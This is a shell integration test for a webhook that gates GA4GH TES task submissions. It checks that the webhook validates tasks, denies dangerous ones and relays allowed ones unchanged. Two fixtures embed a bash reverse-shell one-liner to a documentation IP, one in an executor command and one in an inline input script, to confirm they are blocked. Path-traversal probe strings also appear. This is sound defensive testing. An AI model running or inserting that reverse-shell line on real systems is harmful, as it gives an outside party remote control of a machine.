# Integration: portcullis-webhook for GA4GH TES servers, over real HTTPS in
# front of the test registry (PKI, registry and webhooks from
# tests/harness/) holding fixture images. Two parts:
#   POST /tes/validate — tasks from fixtures/requests/tes (one, several,
#     mixed executors; malformed ones: 400 naming the field), each executor
#     judged as it runs (kubernetes semantics, the default policy's; the
#     other semantics are tests/integration/tes_start.sh's), the answer's
#     finding and sandbox objects compared with `portcullis scan --format
#     json` given the same run, the deadline ("scan ... in progress, retry"
#     then the cached answer, through tests/webhook/slowproxy.py), one scan
#     shared with a concurrent /imagereview, and the verdict cache.
#   --tes-upstream — the gate in front of tests/webhook/tes_upstream.py, a
#     recording stand-in for a TES server: denied tasks never reach it
#     (however the path is spelled), allowed tasks arrive byte for byte
#     (sha256) with their Authorization, every other path, method and
#     query string passes untouched and the answers come back, an
#     oversized answer and an upstream that is down are 502, no token in
#     the logs; without the flag the TES paths are 404; bad URLs refused.
# Every process started here is killed on exit.
. "$PC_ROOT/tests/lib.sh"
harness pki registry webhook
registry_up

TREQ="$REQ/tes"
TOKEN="tes-$(od -An -N8 -tx1 /dev/urandom | tr -d ' \n')-bearer"

# --- fixture images, a slowed front for the deadline, the recording upstream
P_PROXY=$(free_port)
P_TES=$(free_port)
registry_fixtures "$P_PROXY" || exit 1
REC="$T/upstream.jsonl"
: >"$REC"
tes_upstream_start "$P_TES" "$REC" || exit 1
UP_PID=$TES_PID
: >"$REC"
pass "registry, slow proxy and recording TES upstream up"

webhook_start G --cache-dir "$(fresh_cache)" --tls-cert "$C/server.crt" --tls-key "$C/server.key" --deadline-margin 1s \
    --max-body 1M --tes-upstream "http://127.0.0.1:$P_TES/" || exit 1
G_PID=$WH_PID
G=$WH_URL
jq_true "listening line names the upstream" "select(.msg == \"listening\") | .tes_upstream == \"http://127.0.0.1:$P_TES\"" "$T/G.log"

# --- helpers
# req METHOD URL BODY-FILE|- [curl args]: status in $CODE, body in $T/out, headers in $T/hdr
req() {
    m=$1 u=$2 f=$3
    shift 3
    if [ "$f" = - ]; then
        CODE=$(curl -s --path-as-is -X "$m" -o "$T/out" -D "$T/hdr" -w '%{http_code}' \
            --cacert "$C/ca.crt" "$@" "$u")
    else
        CODE=$(curl -s --path-as-is -X "$m" -H 'Content-Type: application/json' \
            --data-binary @"$f" -o "$T/out" -D "$T/hdr" -w '%{http_code}' --cacert "$C/ca.crt" "$@" "$u")
    fi
}
code_is() { # NAME WANT
    if [ "$CODE" = "$2" ]; then pass "$1 (HTTP $2)"; else fail "$1" "HTTP $CODE, expected $2: $(head -c 800 "$T/out")"; fi
}
sha() { sha256sum "$1" | cut -c1-64; }
AUTH="Authorization: Bearer $TOKEN"
V="$G/tes/validate"
TASKS="$G/ga4gh/tes/v1/tasks"

# --- POST /tes/validate: one executor
fill_task "$TREQ/one-executor.json" "$T/clean1.json" "$CLEAN"
req POST "$V" "$T/clean1.json"
code_is "validate: one clean executor" 200
jq_true "clean: allowed, executor 0 with the scanned digest" ".allowed == true and (.executors | length == 1) and .executors[0].index == 0 and .executors[0].image == \"$CLEAN\" and .executors[0].digest == \"$CLEAN_DIGEST\" and .executors[0].verdict == \"allow\""
jq_true "clean: message and the unpinned-image warning" '(.message | startswith("allowed: 1 executor")) and ([.warnings[] | test("unpinned-image")] | any) and ([.executors[0].findings[] | select(.check == "unpinned-image") | .action] == ["warn"])'
jq_true "clean: the answer says how the executor was judged (kubernetes semantics: the policy's default)" '.executors[0] | .start == "kubernetes" and .argv == ["/app/run", "/data/file1"] and .program == "/app/run" and .user == "1000:1000" and .command == null'
jq_true "clean: sandbox says what the image needs" '.executors[0].sandbox | (keys == ["argv", "capabilities", "groups", "needs_caps", "needs_root", "no_new_privileges", "privileged_ports", "program", "user", "user_from"]) and .program == "/app/run" and .needs_root == false'
fill_task "$TREQ/one-executor.json" "$T/bad1.json" "$BAD"
req POST "$V" "$T/bad1.json"
cp "$T/out" "$T/bad1.answer"
code_is "validate: one bad executor" 200
jq_true "bad: denied; message names executor, image, program, check and path" ".allowed == false and (.message | contains(\"executor 0 (image \\\"$BAD\\\", program \\\"/app/run\\\"): \") and contains(\"setuid-file /usr/bin/passwd\") and contains(\"root-user\")) and .executors[0].verdict == \"deny\""
jq_true "bad: finding objects have the scan report's fields" '[.executors[0].findings[] | (keys - ["neutralised", "waived_by"]) == ["action", "check", "layer", "message", "path", "rule"]] | all'
run "portcullis scan of the bad image, run as the executor says (for comparison)" 1 "$PC" scan --format json --cert-dir "$CERTS" \
    --authfile "$T/auth.json" --entrypoint /app/run --workdir /data --env LC_ALL=C "$BAD" -- /data/file1
cp "$T/out" "$T/scan.json"
if jq -e --slurpfile scan "$T/scan.json" '($scan[0].reports[0].findings == [.executors[0].findings[] | select(.check != "unpinned-image")]) and ($scan[0].reports[0].sandbox == .executors[0].sandbox) and ($scan[0].reports[0].digest == .executors[0].digest)' "$T/bad1.answer" >/dev/null; then
    pass "findings, sandbox and digest identical to portcullis scan --format json"
else
    fail "findings, sandbox and digest identical to portcullis scan --format json" "$(head -c 600 "$T/scan.json") vs $(head -c 600 "$T/bad1.answer")"
fi

# --- the executor's own command: a reverse shell in its arguments, with
# the clean image (TES tasks are often bash -c one-liners)
jq '.executors[0].command = ["/app/run", "-c", "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"]' "$T/clean1.json" >"$T/revshell.json"
req POST "$V" "$T/revshell.json"
code_is "validate: clean image, reverse shell in the command" 200
jq_true "revshell: denied on the command line itself (suspicious-tool without a path)" '.allowed == false and .executors[0].verdict == "deny" and ([.executors[0].findings[] | select(.check == "suspicious-tool" and .path == null and .rule == "revshell_bash_dev_tcp")] | length == 1)'

# --- an inline input (inputs[].content) the command runs: the script is
# in the task, not in the image nor in the command
jq '.inputs += [{"name": "job", "path": "/data/job.sh", "type": "FILE", "content": "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n"}] | .executors[0].command = ["/app/run", "/data/job.sh"]' "$T/clean1.json" >"$T/inline.json"
req POST "$V" "$T/inline.json"
code_is "validate: clean image, an inline input with a reverse shell" 200
jq_true "inline input: denied (suspicious-tool without a path)" '.allowed == false and ([.executors[0].findings[] | select(.check == "suspicious-tool" and .path == null and .rule == "revshell_bash_dev_tcp")] | length == 1)'
jq '.inputs += [{"name": "cfg", "path": "/data/cfg.txt", "type": "FILE", "content": "threads=4\n"}]' "$T/clean1.json" >"$T/inline-ok.json"
req POST "$V" "$T/inline-ok.json"
code_is "validate: clean image, an ordinary inline input" 200
jq_true "ordinary inline input: allowed" '.allowed == true'
jq '.inputs = [{"name": "x", "path": "/data/x", "Content": "x"}]' "$T/clean1.json" >"$T/inline-case.json"
req POST "$V" "$T/inline-case.json"
code_is "validate: inputs[0].\"Content\": refused as ambiguous" 400
jq '.inputs = [{"name": "x", "path": "/data/x", "content": 5}]' "$T/clean1.json" >"$T/inline-type.json"
req POST "$V" "$T/inline-type.json"
code_is "validate: inputs[0].content not a string" 400
python3 - "$T/clean1.json" "$T/inline-many.json" <<'E'
import json, sys
t = json.load(open(sys.argv[1]))
many = dict(t, inputs=[{"name": "a", "path": "/data/a", "content": "x" * (600 << 10)}],
            executors=t["executors"] * 30)
json.dump(many, open(sys.argv[2], "w"))
E
# (the 1 MiB bound on inline inputs in all: unit/test_wh_tes; this
# webhook's --max-body is 1M)
req POST "$V" "$T/inline-many.json"
code_is "validate: 600 KiB of inline inputs for 30 executors refused" 400
jq_true "inline inputs x executors: the message says the bound" '.message // . | tostring | contains("for 30 executors; at most 33554432 bytes judged in all")'

# --- several executors, mixed verdicts
fill_task "$TREQ/several-executors.json" "$T/several.json" "$CLEAN" "$R/app/clean@$CLEAN_DIGEST"
req POST "$V" "$T/several.json"
code_is "validate: three executors" 200
jq_true "three executors: each answered in task order, the repeated image twice" ".allowed == true and ([.executors[].index] == [0, 1, 2]) and ([.executors[].verdict] == [\"allow\", \"allow\", \"allow\"]) and .executors[2].image == \"$CLEAN\" and ([.executors[].digest] | unique == [\"$CLEAN_DIGEST\"])"
jq_true "three executors: the pinned one has no unpinned-image finding" '[.executors[1].findings[] | select(.check == "unpinned-image")] == []'
fill_task "$TREQ/mixed.json" "$T/mixed.json" "$CLEAN" "$BAD"
req POST "$V" "$T/mixed.json"
code_is "validate: mixed verdicts" 200
jq_true "mixed: denied naming executor 1 only" ".allowed == false and ([.executors[].verdict] == [\"allow\", \"deny\"]) and (.message | contains(\"executor 1 (image \\\"$BAD\\\", program \\\"/usr/bin/passwd\\\"): \") and contains(\"setuid-file /usr/bin/passwd\") and (contains(\"executor 0\") | not))"

# --- malformed tasks: 400 naming the field
says() { # FILE WANT-HTTP TEXT
    req POST "$V" "$TREQ/malformed/$1.json"
    if [ "$CODE" = "$2" ] && jq -e --arg t "$3" '.message | contains($t)' "$T/out" >/dev/null 2>&1; then
        pass "malformed $1: $2 \"$3\""
    else
        fail "malformed $1" "HTTP $CODE, expected $2 with \"$3\": $(head -c 500 "$T/out")"
    fi
}
says not-json 400 "not valid JSON"
says truncated 400 "not valid JSON"
says not-object 400 "expected a JSON object"
says no-executors 400 "executors: missing"
says empty-executors 400 "executors: empty"
says executors-not-array 400 "executors: expected an array"
says executor-not-object 400 "executors[0]: expected an object"
says executor-no-image 400 "executors[1].image: missing"
says image-not-string 400 "executors[0].image: expected a string"
says image-lookalike-key 400 'executors[0]."Image": differs from "image" only in case'
says executors-lookalike-key 400 'differs from "executors" only in case'
says duplicate-key 400 "duplicate object key"
says command-not-array 400 "executors[0].command: expected an array of strings"
says command-not-strings 400 "executors[0].command[1]: expected a string"
says workdir-relative 400 'executors[0].workdir: "data": expected an absolute path'
says stdout-relative 400 'executors[0].stdout: "out/ls.txt": expected an absolute path'
says env-not-strings 400 "executors[0].env.THREADS: expected a string"
says command-lookalike-key 400 'executors[0]."Command": differs from "command" only in case'
CODE=$(curl -s -o "$T/out" -w '%{http_code}' --cacert "$C/ca.crt" -H 'Content-Type: text/plain' \
    --data-binary @"$T/clean1.json" "$V")
code_is "validate: wrong Content-Type" 415
req GET "$V" -
code_is "validate: GET" 405
head -c 1100000 /dev/zero | tr '\0' ' ' >"$T/big.json"
req POST "$V" "$T/big.json"
code_is "validate: body over --max-body" 413

# --- deadline: a slowed registry, ?timeout=3s, margin 1s → "in progress, retry", then cached
SLOWIMG="127.0.0.1:$P_PROXY/app/slow:v1"
fill_task "$TREQ/one-executor.json" "$T/slow.json" "$SLOWIMG"
t0=$(date +%s%N)
req POST "$V?timeout=3s" "$T/slow.json"
ms=$((($(date +%s%N) - t0) / 1000000))
code_is "validate: scan outlives the deadline" 200
jq_true "deadline: denied, scan in progress, retry" ".allowed == false and (.message | contains(\"scan of $SLOWIMG in progress, retry\")) and .executors[0].verdict == \"deny\" and .executors[0].digest == null"
[ "$ms" -lt 3000 ] && pass "deadline: answered inside the timeout (${ms}ms)" || fail "deadline: answered inside the timeout" "${ms}ms"
wait_until 20 scans_idle "$G"
hits=$(metric "$G" portcullis_cache_hits_total)
t0=$(date +%s%N)
req POST "$V?timeout=3s" "$T/slow.json"
ms=$((($(date +%s%N) - t0) / 1000000))
jq_true "deadline: the retry is answered" '.allowed == true'
[ "$(metric "$G" portcullis_cache_hits_total)" -gt "$hits" ] && [ "$ms" -lt 1000 ] && pass "deadline: retry from the cache (${ms}ms)" ||
    fail "deadline: retry from the cache" "${ms}ms, hits stayed $hits"

# --- one scan shared by /tes/validate and a concurrent /imagereview (an
# executor run as its image says, as ImageReview judges images); then the cache
SHIMG="127.0.0.1:$P_PROXY/app/shared:v1"
started=$(metric "$G" portcullis_scans_started_total)
joins=$(metric "$G" portcullis_scan_joins_total)
fill_task "$TREQ/image-only.json" "$T/shared.json" "$SHIMG"
fill "$REQ/imagereview.json" "$T/ir.json" - team-a "$SHIMG" "$SHIMG"
curl -s --cacert "$C/ca.crt" -H 'Content-Type: application/json' --data-binary @"$T/shared.json" \
    -o "$T/share1.out" "$V?timeout=20s" &
p1=$!
curl -s --cacert "$C/ca.crt" -H 'Content-Type: application/json' --data-binary @"$T/ir.json" \
    -o "$T/share2.out" "$G/imagereview?timeout=20s" &
p2=$!
wait $p1 $p2
d_started=$(($(metric "$G" portcullis_scans_started_total) - started))
d_joins=$(($(metric "$G" portcullis_scan_joins_total) - joins))
[ "$d_started" = 1 ] && [ "$d_joins" -ge 1 ] && pass "TES and Kubernetes requests share one scan (started +$d_started, joined +$d_joins)" ||
    fail "TES and Kubernetes requests share one scan" "started +$d_started, joined +$d_joins"
jq_true "shared scan: the TES answer has the scan's verdict" '.executors[0].digest != null and (.message | contains("in progress") | not)' "$T/share1.out"
started=$(metric "$G" portcullis_scans_started_total)
hits=$(metric "$G" portcullis_cache_hits_total)
req POST "$V" "$T/shared.json"
[ "$(metric "$G" portcullis_scans_started_total)" = "$started" ] && [ "$(metric "$G" portcullis_cache_hits_total)" -gt "$hits" ] &&
    pass "an image judged for Kubernetes is a cache hit for TES" || fail "TES uses the verdict cache" "started or hits unchanged"

# --- the gate: denied tasks never reach the upstream
posts() { jq -s '[.[] | select(.method != "GET")] | length' "$REC"; }
denied() { # NAME METHOD URL FILE: 403 with the /tes/validate answer, nothing relayed
    before=$(posts)
    req "$2" "$3" "$4" -H "$AUTH"
    if [ "$CODE" = 403 ] && jq -e '.allowed == false and (.executors | length >= 1) and (.message | startswith("denied: "))' "$T/out" >/dev/null 2>&1 &&
        [ "$(posts)" = "$before" ]; then
        pass "gate: $1 (403, not relayed)"
    else
        fail "gate: $1" "HTTP $CODE, upstream got $(($(posts) - before)) requests: $(head -c 500 "$T/out")"
    fi
}
denied "bad task" POST "$TASKS" "$T/bad1.json"
if jq -e --slurpfile v "$T/bad1.answer" '.message == $v[0].message and .executors == $v[0].executors and .allowed == $v[0].allowed' "$T/out" >/dev/null; then
    pass "gate: the 403 body is the /tes/validate answer"
else
    fail "gate: the 403 body is the /tes/validate answer" "$(head -c 400 "$T/out")"
fi
denied "mixed task" POST "$TASKS" "$T/mixed.json"
jq_true "gate: mixed names executor 1" ".message | contains(\"executor 1 (image \\\"$BAD\\\", program \\\"/usr/bin/passwd\\\")\")"
for p in "/ga4gh/tes/v1//tasks" "/ga4gh/tes/v1/tasks/" "/ga4gh/tes/v1/TASKS" "/ga4gh/tes/v1/./tasks" \
    "/ga4gh/tes/v1/x/../tasks" "/ga4gh/tes/v1/task%73" "/ga4gh/tes/v1/tasks;jsessionid=1" \
    "/ga4gh/tes/v1/tasks?x=1" "/ga4gh/tes/v1/x%2f..%2ftasks" "/ga4gh/tes/v1/x\\..\\tasks"; do
    denied "bad task to $p" POST "$G$p" "$T/bad1.json"
done
denied "bad task with PUT" PUT "$TASKS" "$T/bad1.json"
for f in not-json executor-no-image executors-lookalike-key duplicate-key; do
    req POST "$TASKS" "$TREQ/malformed/$f.json" -H "$AUTH"
    code_is "gate: malformed $f refused" 400
done
for p in "/ga4gh/tes/v1/../../admin" "/ga4gh/tes/v1/%2e%2e/%2e%2e/admin" "/ga4gh/tes/v1/a%00b" "/ga4gh/tes/v1/%zz"; do
    req GET "$G$p" - -H "$AUTH"
    code_is "gate: target $p refused" 400
done
# (and the upstream was there to receive them: nothing arriving at a dead
# upstream proves nothing)
n=$(jq -s 'length' "$REC")
alive=$(curl -s -o /dev/null -w '%{http_code}' "http://127.0.0.1:$P_TES/ga4gh/tes/v1/service-info")
[ "$n" = 0 ] && [ "$alive" = 200 ] && pass "gate: nothing denied or refused reached the upstream" ||
    fail "gate: nothing denied or refused reached the upstream" "upstream answers $alive; got: $(head -c 800 "$REC")"

# --- the gate: allowed tasks arrive byte for byte, with their Authorization
arrived() { # NAME FILE: the last POST the upstream saw has FILE's bytes and our Authorization
    if jq -e -s --arg sha "$(sha "$2")" --arg auth "Bearer $TOKEN" \
        '[.[] | select(.method == "POST")][-1] | .body_sha256 == $sha and .path == "/ga4gh/tes/v1/tasks" and ([.headers[] | select(.[0] | ascii_downcase == "authorization") | .[1]] == [$auth]) and ([.headers[] | select(.[0] | ascii_downcase == "content-type") | .[1]] == ["application/json"])' \
        "$REC" >/dev/null; then
        pass "gate: $1 arrived byte for byte with its Authorization"
    else
        fail "gate: $1 arrived byte for byte" "$(tail -c 800 "$REC")"
    fi
}
req POST "$TASKS" "$T/clean1.json" -H "$AUTH"
code_is "gate: clean task relayed" 200
jq_true "gate: the upstream's answer relayed" '.id | test("^task-[0-9]+$")'
TASK_ID=$(jq -r .id "$T/out")
arrived "clean task" "$T/clean1.json"
fill_task "$TREQ/unusual-bytes.json" "$T/unusual.json" "$CLEAN"
req POST "$TASKS" "$T/unusual.json" -H "$AUTH"
code_is "gate: task with CRLF, tabs, escapes and non-ASCII relayed" 200
arrived "task with unusual whitespace and unicode" "$T/unusual.json"
fill_task "$TREQ/several-executors.json" "$T/several.json" "$CLEAN" "$R/app/clean@$CLEAN_DIGEST"
req POST "$TASKS?trace=1" "$T/several.json" -H "$AUTH"
code_is "gate: three-executor task relayed" 200
arrived "three-executor task (with a query string)" "$T/several.json"
if jq -e -s --arg b "$(sha "$T/bad1.json")" --arg m "$(sha "$T/mixed.json")" '[.[] | .body_sha256] | (index($b) == null) and (index($m) == null)' "$REC" >/dev/null; then
    pass "gate: no denied task's bytes ever reached the upstream"
else
    fail "gate: no denied task's bytes ever reached the upstream" "$(head -c 800 "$REC")"
fi

# --- the gate: everything else passes through untouched, answers relayed
last() { jq -s '.[-1]' "$REC" >"$T/last.json"; }
Q='name_prefix=a%20b&page_size=10&view=BASIC&x=%7E+y&empty='
req GET "$TASKS?$Q" - -H "$AUTH" -H 'Accept: application/json'
code_is "gate: GET tasks (list)" 200
last
jq_true "gate: list arrived with its query string untouched" ".method == \"GET\" and .raw_path == \"/ga4gh/tes/v1/tasks?$Q\" and ([.headers[] | select(.[0] | ascii_downcase == \"authorization\") | .[1]] == [\"Bearer $TOKEN\"])" "$T/last.json"
jq_true "gate: list answer relayed" "(.tasks | length >= 3) and .next_page_token == \"p2\" and .echo.name_prefix == [\"a b\"]"
req GET "$TASKS/$TASK_ID?view=FULL" - -H "$AUTH"
code_is "gate: GET tasks/{id}" 200
jq_true "gate: task answer relayed" ".id == \"$TASK_ID\" and .state == \"QUEUED\" and .view == \"FULL\""
printf '{}' >"$T/empty.json"
req POST "$TASKS/$TASK_ID:cancel" "$T/empty.json" -H "$AUTH"
code_is "gate: POST tasks/{id}:cancel (not judged)" 200
last
jq_true "gate: cancel arrived as sent" ".method == \"POST\" and .raw_path == \"/ga4gh/tes/v1/tasks/$TASK_ID:cancel\" and .body_sha256 == \"$(sha "$T/empty.json")\"" "$T/last.json"
req GET "$TASKS/$TASK_ID" - -H "$AUTH"
jq_true "gate: the cancel took effect upstream" '.state == "CANCELED"'
req GET "$G/ga4gh/tes/v1/service-info" -
code_is "gate: GET service-info" 200
grep -qi '^content-type: application/json; charset=utf-8' "$T/hdr" && pass "gate: upstream Content-Type relayed" ||
    fail "gate: upstream Content-Type relayed" "$(cat "$T/hdr")"
jq_true "gate: service-info relayed" '.type.artifact == "tes" and .name == "recording TES"'
req GET "$TASKS/no-such-task" - -H "$AUTH"
code_is "gate: upstream 404 relayed" 404
jq_true "gate: upstream 404 body relayed" '.message == "no task no-such-task"'
req DELETE "$TASKS/$TASK_ID" - -H "$AUTH"
code_is "gate: other methods relayed (DELETE, upstream 404)" 404
last
jq_true "gate: DELETE arrived as sent" ".method == \"DELETE\" and .raw_path == \"/ga4gh/tes/v1/tasks/$TASK_ID\"" "$T/last.json"
req GET "$TASKS/big-answer" - -H "$AUTH"
code_is "gate: upstream answer over 16 MiB" 502
jq_true "gate: oversized answer says so" '.message | contains("more than")'

# --- metrics and logs
curl -s --cacert "$C/ca.crt" "$G/metrics" >"$T/m"
grep_in "metrics: /tes/validate by verdict" '^portcullis_requests_total\{endpoint="tes_validate",verdict="deny"\} [1-9]' "$T/m"
grep_in "metrics: gate denials" '^portcullis_requests_total\{endpoint="tes_gate",verdict="deny"\} [1-9]' "$T/m"
grep_in "metrics: gate allowed tasks" '^portcullis_requests_total\{endpoint="tes_gate",verdict="allow"\} [1-9]' "$T/m"
jq -s '[.[] | select(.msg == "decision" and (.endpoint == "tes-validate" or .endpoint == "tes-gate"))]' "$T/G.log" >"$T/decisions.json" 2>/dev/null ||
    fail "log is JSON lines" "$(head -c 500 "$T/G.log")"
jq_true "decision lines for TES tasks" '(map(select(.endpoint == "tes-gate")) | length >= 10) and ([.[] | .kind == "tesTask" and (.executors >= 1) and has("images")] | all) and ([.[] | select(.name == "three steps")] | length >= 1)' "$T/decisions.json"

# --- upstream down: 502 with a clear message; denied tasks still 403
stop_pid "$UP_PID" 2>/dev/null
req GET "$G/ga4gh/tes/v1/service-info" -
code_is "gate: upstream down" 502
jq_true "gate: upstream down says so" ".message | contains(\"TES upstream http://127.0.0.1:$P_TES\") and contains(\"unreachable\")"
req POST "$TASKS" "$T/clean1.json" -H "$AUTH"
code_is "gate: allowed task, upstream down" 502
denied "bad task, upstream down" POST "$TASKS" "$T/bad1.json"
curl -s --cacert "$C/ca.crt" "$G/metrics" >"$T/m"
grep_in "metrics: upstream failures counted" '^portcullis_errors_total\{kind="upstream"\} [1-9]' "$T/m"

# --- without --tes-upstream the TES paths are 404; bad upstream URLs refused
webhook_start N --cache-dir "$(fresh_cache)" --tls-cert "$C/server.crt" --tls-key "$C/server.key" || exit 1
N_PID=$WH_PID
req GET "$WH_URL/ga4gh/tes/v1/service-info" -
code_is "no --tes-upstream: TES paths" 404
req POST "$WH_URL/tes/validate" "$T/clean1.json"
code_is "no --tes-upstream: /tes/validate still answers" 200
for u in "ftp://127.0.0.1:$P_TES" "http://user:pw@127.0.0.1:$P_TES" "http://127.0.0.1:$P_TES/?x=1" "not a url"; do
    "$WH" --listen 127.0.0.1:0 --tls-cert "$C/server.crt" --tls-key "$C/server.key" --tes-upstream "$u" \
        >"$T/badurl.out" 2>&1 &
    bp=$!
    track $bp
    wait_until 10 exited $bp
    if wait $bp; then rc=0; else rc=$?; fi
    [ "$rc" != 0 ] && grep -q -- "--tes-upstream" "$T/badurl.out" && ! grep -q "pw@" "$T/badurl.out" &&
        pass "--tes-upstream \"${u%%//*}...\" refused (exit $rc)" ||
        fail "--tes-upstream $u refused" "exit $rc: $(head -c 400 "$T/badurl.out")"
done

# --- shutdown, and no token in any log
for p in $G_PID $N_PID; do kill -TERM "$p"; done
rcs=""
for p in $G_PID $N_PID; do wait "$p"; rcs="$rcs$?"; done
[ "$rcs" = 00 ] && pass "SIGTERM: clean exit" || fail "SIGTERM: clean exit" "exit codes $rcs"
grep_none "no Authorization token in logs" -F "$TOKEN" "$T/G.log" "$T/N.log"
grep_none "no registry password in logs" -F "$PASS" "$T/G.log"
